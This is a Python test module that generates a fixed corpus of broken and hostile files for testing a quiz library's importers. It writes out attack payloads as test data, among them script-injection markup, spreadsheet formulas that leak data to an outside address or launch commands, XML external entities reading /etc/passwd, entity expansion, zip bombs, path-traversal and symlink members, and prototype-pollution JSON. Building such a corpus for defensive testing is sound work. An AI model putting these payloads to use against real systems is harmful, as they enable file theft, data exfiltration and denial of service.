"""Broken and hostile files of every format, the same ones each time.

`python -m tests.exchange.hostile FOLDER` writes them, for other readers to be tried with.
"""

import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from quizapi.domain import Evidence, Item, Option, Span
from quizapi.exchange.decoding import LARGEST_FILE
from quizapi.exchange.formats import Entry
from quizapi.exchange.packages import pack
from quizapi.exchange.registry import EXPORTERS

SCRIPT = "<script>alert(1)</script>"
MARKUP = f'{SCRIPT}<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>"\'><svg/onload=alert(1)>'
FORMULA = '=HYPERLINK("http://198.51.100.7/"&A1)'
TEXT_FORMATS = ("gift", "aiken", "csv", "moodle-xml", "json")
PACKAGES = ("qti21", "qti3", "xlsx")


@dataclass(frozen=True)
class Hostile:
    """One file. `format` is the importer that is asked to read it."""

    name: str
    format: str
    data: bytes


def items(text: str) -> list[Entry]:
    """An item of each interaction with the text in every field."""
    options = tuple(Option(id, f"{text} {id}") for id in "abc")
    matches = tuple(Option(str(n), f"{text} {n}") for n in (1, 2, 3))
    proof = (Evidence(Span(0, 5), text),)
    keys = {
        "choice": ("b",),
        "multiple": ("a", "c"),
        "order": ("c", "a", "b"),
        "match": (("a", "2"), ("b", "1"), ("c", "3")),
    }
    found = [
        Item(
            kind, f"{text} {kind}", key, proof, options, matches if kind == "match" else (), explanation=text
        )
        for kind, key in keys.items()
    ]
    found.append(Item("true_false", f"{text}?", True, proof, explanation=text, tags=(text[:40],)))
    found.append(Item("text", f"{text} who", text, proof, accepted=(f"{text}!",), explanation=text))
    return [Entry(str(n), item) for n, item in enumerate(found)]


def written(name: str, text: str) -> bytes:
    """A sound file of a format with the text in every field that it has."""
    return EXPORTERS[name].export(items(text), title=text[:60]).data


def corpus(groups: Iterable[str] = ()) -> Iterator[Hostile]:
    """The files of these groups, or all; each made when it is asked for."""
    for group in groups or GROUPS:
        yield from GROUPS[group]()


def _fields() -> Iterator[Hostile]:
    for name in (*TEXT_FORMATS, *PACKAGES):
        reader = "qti" if name.startswith("qti") else name
        for what, text in (("markup", MARKUP), ("formula", FORMULA), ("entity", "&xxe; &#x0; &amp;lt;b&gt;")):
            yield Hostile(f"{name}-{what}-in-every-field", reader, written(name, text))


def _texts(name: str) -> Iterator[Hostile]:
    whole = written(name, "Plain")
    text = whole.decode()
    rng = random.Random(name)
    noise = bytearray(whole)
    for _ in range(40):
        noise[rng.randrange(len(noise))] = rng.randrange(256)
    files = {
        "empty": b"",
        "white-space": b" \r\n\t" * 1_000,
        "mark-alone": b"\xef\xbb\xbf",
        "nul": b"\x00" * 4_000,
        "random": rng.randbytes(5_000),
        "noise": bytes(noise),
        "utf-16-without-mark": text.encode("utf-16-le"),
        "utf-16": text.encode("utf-16"),
        "utf-32": text.encode("utf-32"),
        "utf-7": b"+ADw-script+AD4-" + whole,
        "latin-1": ("Ärger " + text).encode("latin-1", "replace"),
        "overlong": b"\xc0\xbcscript\xc0\xbe" + whole,
        "surrogates": b"\xed\xa0\xbd\xed\xb8\x80" + whole,
        "wrong-mark": b"\xff\xfe" + whole,
        "carriage-returns": whole.replace(b"\n", b"\r"),
        "one-line": b"x" * 1_000_000,
        "many-times": whole * max(1, 2_000_000 // len(whole)),
        "too-large": whole + b"\n" * (LARGEST_FILE + 1 - len(whole)) + b"x",
        "a-package": written("qti3", "Plain"),
    }
    for part in (1, 2, 3):
        files[f"cut-{part}"] = whole[: len(whole) * part // 4]
    files["cut-4"] = whole[:-2]
    yield from (Hostile(f"{name}-{what}", name, data) for what, data in files.items())


def _packages(name: str) -> Iterator[Hostile]:
    reader = "xlsx" if name == "xlsx" else "qti"
    whole = written(name, "Plain")
    rng = random.Random(name)
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        members = [(member, package.read(member)) for member in package.namelist()]
    files = {
        "empty": b"",
        "signature-alone": b"PK\x03\x04",
        "end-alone": b"PK\x05\x06" + b"\x00" * 18,
        "random": b"PK\x03\x04" + rng.randbytes(5_000),
        "in-front": rng.randbytes(100) + whole,
        "behind": whole + rng.randbytes(100),
        "too-large": whole + b"\x00" * LARGEST_FILE,
        "members-empty": pack((member, b"") for member, _ in members),
        "members-cut": pack((member, data[: len(data) // 2]) for member, data in members),
        "members-swapped": pack(zip([m for m, _ in members], [d for _, d in members[::-1]], strict=True)),
        "members-in-latin-1": pack((m, d.replace(b"utf-8", b"latin-1")) for m, d in members),
        "no-first-member": pack(members[1:]),
        "escape": pack([*members, ("../../../../tmp/evil.xml", b"<x/>")]),
        "escape-windows": pack([*members, ("..\\evil.xml", b"<x/>")]),
        "escape-absolute": pack([*members, ("/etc/cron.d/evil", b"x")]),
    }
    for part in (1, 2, 3):
        files[f"cut-{part}"] = whole[: len(whole) * part // 4]
    for number in range(3):
        noise = bytearray(whole)
        for _ in range(60):
            noise[rng.randrange(len(noise))] = rng.randrange(256)
        files[f"noise-{number}"] = bytes(noise)
    yield from (Hostile(f"{name}-{what}", reader, data) for what, data in files.items())


def _xml() -> Iterator[Hostile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "billion-laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY l9 "{"a" * 100_000}">]>',
        "external-entity": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        "external-address": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "http://198.51.100.7/x">]>',
        "external-type": '<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">',
        "parameter-entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/x"> %p;]>',
        "stylesheet": '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>',
    }
    question = (
        '<quiz><question type="truefalse"><questiontext format="html"><text>{}</text></questiontext>'
        '<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>'
        "</question></quiz>"
    )
    item = (
        '<assessmentItem identifier="I"><responseDeclaration identifier="R" cardinality="single" '
        'baseType="string"><correctResponse><value>x</value></correctResponse></responseDeclaration>'
        '<itemBody><p>{}</p><textEntryInteraction responseIdentifier="R"/></itemBody></assessmentItem>'
    )
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )
    for reader, around in (("moodle-xml", question), ("qti", item)):
        for what, head in heads.items():
            inner = "plain" if what == "stylesheet" or "external-type" in what else "&l9;"
            yield Hostile(f"{reader}-{what}", reader, (head + around.format(inner)).encode())
        bodies = {
            "include": include,
            "deep": "<b>" * 50_000 + "</b>" * 50_000,
            "many-elements": "<br/>" * 300_000,
            "many-attributes": "<b " + " ".join(f'a{n}="{n}"' for n in range(50_000)) + "/>",
            "one-namespace-each": "".join(f'<b xmlns="urn:{n}"/>' for n in range(20_000)),
            "never-closed": "<b>" * 1_000,
            "control-signs": "&#x1;&#xFFFE;",
            "utf-7": "+ADw-b+AD4-",
        }
        for what, body in bodies.items():
            head = '<?xml version="1.0" encoding="utf-7"?>' if what == "utf-7" else ""
            yield Hostile(f"{reader}-{what}", reader, (head + around.format(body)).encode())


def _zips() -> Iterator[Hostile]:
    zeros = b"\x00" * 19_000_000
    one = pack([("imsmanifest.xml", zeros)])
    nested = one
    for _ in range(4):
        nested = pack([(f"{n}.zip", nested) for n in range(10)])
    link = zipfile.ZipInfo("imsmanifest.xml")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(link, "/etc/passwd")
    lying = bytearray(pack([("imsmanifest.xml", zeros)]))
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = lying.index(signature) + offset
        lying[place : place + 4] = struct.pack("<I", 10)
    secret = bytearray(pack([("imsmanifest.xml", b"<manifest/>")]))
    secret[secret.index(b"PK\x01\x02") + 8] |= 1
    files = {
        "bomb": pack([("imsmanifest.xml", b"\x00" * 200_000_000)]),
        "bomb-of-many": pack([(f"{n}.xml", zeros) for n in range(40)]),
        "bomb-in-a-bomb": nested,
        "overlapping": _overlapping(),
        "lying-size": bytes(lying),
        "encrypted": bytes(secret),
        "link": buffer.getvalue(),
        "too-many-members": pack((f"{n}.xml", b"") for n in range(6_000)),
    }
    for reader in ("qti", "xlsx"):
        yield from (Hostile(f"{reader}-{what}", reader, data) for what, data in files.items())


def _overlapping() -> bytes:
    """Many entries of the list of members that point to one and the same member."""
    whole = pack([("a.xml", b"\x00" * 15_000_000)])
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    record = whole[start:end]
    records = b"".join(record.replace(b"a.xml", f"{n:05}".encode()) for n in range(1_000))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(records), start, 0)
    return whole[:start] + records + tail


def _json() -> Iterator[Hostile]:
    start = '{"format": "quizapi-quiz", "version": 1, "title": "T", "items": ['
    item = '{"interaction": "text", "stem": %s, "key": %s}'
    files = {
        "deep": start + "[" * 100_000,
        "deep-object": '{"a":' * 100_000,
        "long-number": start + "9" * 100_000 + "]}",
        "infinity": start + "1e999, NaN, -Infinity]}",
        "half-of-a-sign": start + item % ('"\\ud800"', '"\\udfff"') + "]}",
        "nul": start + item % ('"a\\u0000b"', '"x"') + "]}",
        "names-twice": start + '{"interaction": "text", "interaction": "choice"}' + "]}",
        "wrong-types": start + item % ("[1]", "{}") + ', 1, null, "x", [], {}]}',
        "many-items": start + ",".join([item % ('"Who?"', '"x"')] * 20_000) + "]}",
        "proto": start + '{"__proto__": {"admin": true}, "constructor": 1}]}',
    }
    yield from (Hostile(f"json-{what}", "json", text.encode()) for what, text in files.items())


def _sheets() -> Iterator[Hostile]:
    rows = {
        "unclosed-quote": 'stem,key\n"open,x\n',
        "long-cell": "stem,key\n" + "x" * 500_000 + ",y\n",
        "many-columns": ",".join(["stem", "key", *(f"option_{n}" for n in range(5_000))]) + "\n",
        "many-rows": "stem,key\n" + "a,b\n" * 200_000,
        "formulas": "stem,key\n" + "\n".join(f"{sign}1+1,{sign}cmd|' /C calc'!A0" for sign in "=+-@\t\r"),
    }
    yield from (Hostile(f"csv-{what}", "csv", text.encode()) for what, text in rows.items())
    whole = written("xlsx", "Plain")
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        members = {name: package.read(name) for name in package.namelist()}
    sheet = next(name for name in members if name.endswith("sheet1.xml"))
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet'
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    changed = {
        "entity": {sheet: members[sheet].replace(b"<worksheet", doctype, 1)},
        "macro": {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100},
        "external-link": {"xl/externalLinks/externalLink1.xml": link},
        "far-cell": {sheet: members[sheet].replace(b'r="A1"', b'r="XFD1048576"', 1)},
        "wrong-cell": {sheet: members[sheet].replace(b'r="A1"', b'r="??"', 1)},
        "no-sheet": {sheet: b"<worksheet/>"},
    }
    for what, parts in changed.items():
        yield Hostile(f"xlsx-{what}", "xlsx", pack({**members, **parts}.items()))


GROUPS: dict[str, Callable[[], Iterator[Hostile]]] = {
    **{name: partial(_texts, name) for name in TEXT_FORMATS},
    **{name: partial(_packages, name) for name in PACKAGES},
    "fields": _fields,
    "xml": _xml,
    "zips": _zips,
    "objects": _json,
    "sheets": _sheets,
}


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for file in corpus():
        (folder / f"{file.name}.bin").write_bytes(file.data)


if __name__ == "__main__":
    main()
